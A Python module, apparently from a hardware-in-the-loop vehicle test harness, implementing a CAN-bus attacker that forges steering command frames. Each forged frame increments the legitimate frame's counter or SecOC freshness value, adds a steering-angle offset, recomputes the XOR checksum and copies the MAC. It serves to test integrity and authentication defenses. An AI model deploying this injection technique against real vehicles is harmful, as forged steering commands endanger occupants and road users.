"""A counter-copying injector: a node without the key that follows each legitimate steer command it sees with a
forged copy carrying the next counter value and a steering offset.

The counter is the steer message's life counter (`[integrity]`) or its truncated SecOC freshness value
(`[secoc]`), read off the legitimate frame and advanced by one; the XOR checksum, where declared, is recomputed
(anyone can); the MAC, where declared, is copied from the legitimate frame (computing one needs the key).
"""

from __future__ import annotations

import can

from hil.link.integrity import CHECKSUM_BYTE, xor_checksum
from hil.link.profile import ChassisProfile


class CounterCopyingInjector:
    """Forges steer frames of `profile` from legitimate ones: counter + 1, road-wheel angle + `offset` rad."""

    def __init__(self, profile: ChassisProfile, offset: float) -> None:
        self.profile = profile
        steer = profile.commands.steer
        self.message = profile.message(steer)
        self.frame_id = self.message.frame_id
        integrity = profile.integrity.get(steer)
        secured = profile.secoc.messages.get(steer) if profile.secoc is not None else None
        counter = secured.freshness if secured is not None else integrity.counter if integrity else None
        if counter is None:
            raise ValueError(f"profile {profile.name}: {steer} carries no counter to copy")
        self.counter = counter
        self.counter_modulus = 1 << self.message.get_signal_by_name(counter).length
        self.checksum = integrity is not None and integrity.checksum is not None
        self.offset_wire = profile.steering.to_wire(offset)

    def forge(self, legitimate: can.Message) -> can.Message:
        """The forged successor of a legitimate steer frame."""
        signals = dict(self.message.decode(bytes(legitimate.data), decode_choices=False))
        signals[self.counter] = (int(signals[self.counter]) + 1) % self.counter_modulus
        angle = self.profile.commands.angle
        signals[angle] = signals[angle] + self.offset_wire
        data = bytearray(self.message.encode(signals, strict=False))
        if self.checksum:
            data[CHECKSUM_BYTE] = xor_checksum(data)
        return can.Message(arbitration_id=self.frame_id, is_extended_id=False, dlc=len(data), data=data)
